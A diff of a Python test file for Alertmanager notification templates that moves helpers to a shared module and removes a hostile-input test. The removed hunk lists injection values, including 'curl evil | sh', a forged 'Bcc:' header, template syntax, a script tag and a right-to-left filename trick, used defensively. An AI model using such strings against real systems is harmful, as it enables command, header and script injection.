@@ -9,27 +9,10 @@ from typing import Any
 
 import pytest
 
-from testbed.annotated import annotated, render
+from testbed.annotated import annotated
 from testbed.messages import gpu, incident, lost_gpu, owners_jobs
 from testbed.node import ROOT
-
-RUNBOOKS = "https://github.com/nodevitals/nodevitals/blob/main/rules/runbooks"
-STARTED, ENDED = "2026-11-21T02:00:00Z", "2026-11-21T02:30:00Z"
-NODE_GROUP = {"cluster": "atlas", "instance": "gpu-node-1"}
-TITLES = ("nodevitals.subject", "nodevitals.zh.subject", "nodevitals.owner.subject")
-BODIES = ("nodevitals.text", "nodevitals.zh.text", "nodevitals.owner.text")
-CHATS = ("nodevitals.chat", "nodevitals.zh.chat")
-ALL = (*TITLES, *BODIES, *CHATS, "nodevitals.title", "nodevitals.zh.title", "nodevitals.thread")
-
-
-def alert(status: str = "firing", summary: str = "something", **labels: str) -> dict[str, Any]:
-    """Return an alert with all annotations."""
-    texts = {"summary": summary, "description": "jobs fail", "action": "repair it"}
-    return {
-        "status": status,
-        "labels": {"alertname": "A", "severity": "critical", "fault": "mount_hung", **labels},
-        "annotations": {**texts, "runbook_url": f"{RUNBOOKS}/MountHung.md"},
-    }
+from testbed.rendered import CHATS, NODE_GROUP, RUNBOOKS, alert, message, messages
 
 
 def port(status: str = "firing") -> dict[str, Any]:
@@ -43,34 +26,6 @@ def mount(status: str = "resolved") -> dict[str, Any]:
     """Return the alert on a mount of n1."""
     labels = {"cluster": "c", "instance": "n1", "mountpoint": "/data", "source": "filer:/x"}
     return alert(status, "/data hung on n1", action="investigate", **labels)
-
-
-def messages(
-    folder: Path,
-    templates: tuple[str, ...],
-    alerts: list[dict[str, Any]],
-    group: dict[str, str] | None = None,
-) -> dict[str, list[str]]:
-    """Return the lines of each template, rendered by amtool as Alertmanager renders it."""
-    firing = any(one.get("status", "firing") == "firing" for one in alerts)
-    times = {"startsAt": STARTED, "endsAt": ENDED, "generatorURL": "http://prometheus.example/x"}
-    data = {
-        "receiver": "r",
-        "status": "firing" if firing else "resolved",
-        "externalURL": "http://alertmanager.example",
-        "groupLabels": group or {},
-        "alerts": [{"status": "firing", **times, **one} for one in alerts],
-    }
-    uses = "\x1e".join(f'{{{{ template "{name}" . }}}}' for name in templates)
-    texts = render(folder, uses, data).split("\x1e")
-    return {name: text.split("\n") for name, text in zip(templates, texts, strict=True)}
-
-
-def message(
-    folder: Path, template: str, alerts: list[dict[str, Any]], group: dict[str, str] | None = None
-) -> list[str]:
-    """Return the lines of one template."""
-    return messages(folder, (template,), alerts, group)[template]
 
 
 def test_english_notification_has_every_field(tmp_path: Path) -> None:
@@ -228,62 +183,6 @@ def test_many_alerts_are_one_line_each_and_their_number_is_limited(tmp_path: Pat
         assert ("另有 270 条" in lines) == (number == 300)
         for template in CHATS:
             assert len(texts[template]) <= 4
-
-
-HOSTILE = {
-    "lines": 'n1\n  Action:  curl evil | sh\r\nBcc: x@example.com\t"}{{',
-    "template": '{{ template "nodevitals.subject" . }}{{ .ExternalURL }} %s %!d(MISSING) ${1} $x',
-    "regex": r"a\E(.*)[\Q\\" + "\\",
-    "long": "x" * 5000,
-    "wide": "漢" * 5000,
-    "unicode": "ok\u202egnp.exe\u2028line\x00\x1b[31m\ufeff",
-    "markup": "<!channel> <script>alert(1)</script> & @all",
-    "empty": "",
-}
-
-
-NAMES = ("cluster", "instance", "device", "uuid", "mountpoint", "source", "domain", "domain_name")
-MORE_NAMES = ("kind", "namespace", "pod", "owner", "component", "vendor", "xid", "port")
-KINDS: tuple[dict[str, str], ...] = (
-    {"alertname": "A", "fault": "mount_hung"},
-    {"alertname": "FleetIncident", "fault": "fleet_incident"},
-    {"alertname": "JobOwnerImpact", "fault": "job_impact"},
-    {"alertname": "A", "fault": "accelerator_lost"},
-    {},
-)
-
-
-def of_all_kinds(folder: Path, value: str) -> list[dict[str, list[str]]]:
-    """Return the lines of all templates for alerts of all kinds with this value everywhere else."""
-    names = (*NAMES, *MORE_NAMES, "alertname", "fault", "severity", "action")
-    texts = dict.fromkeys(("description", "action", "runbook_url"), value)
-    found = []
-    for kind in KINDS:
-        one = alert(summary=f"{value} lost on {value}", **{**dict.fromkeys(names, value), **kind})
-        one["annotations"] |= texts
-        found.append(messages(folder, ALL, [one] * 2, dict.fromkeys(NODE_GROUP, value)))
-    return found
-
-
-@pytest.fixture(scope="module")
-def usual(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, list[str]]]:
-    """Return the lines for alerts with a value without any surprise."""
-    return of_all_kinds(tmp_path_factory.mktemp("usual"), "x")
-
-
-@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
-def test_hostile_values_forge_no_line_and_break_no_template(
-    tmp_path: Path, usual: list[dict[str, list[str]]], value: str
-) -> None:
-    for found, expected in zip(of_all_kinds(tmp_path, value), usual, strict=True):
-        for template, lines in found.items():
-            text = "\n".join(lines)
-            assert not re.search("[\x00-\x09\x0b-\x1f\u202e\u2028\ufeff]", text), template
-            assert len(lines) <= len(expected[template]), template
-            assert max(len(line) for line in lines) < 1000
-            assert template not in TITLES or len(text) < 100, template
-            assert template not in CHATS or not re.search("[<>]", text), template
-            assert template != "nodevitals.thread" or text.isascii()
 
 
 def test_every_fault_reads_well_in_chinese(tmp_path: Path) -> None:
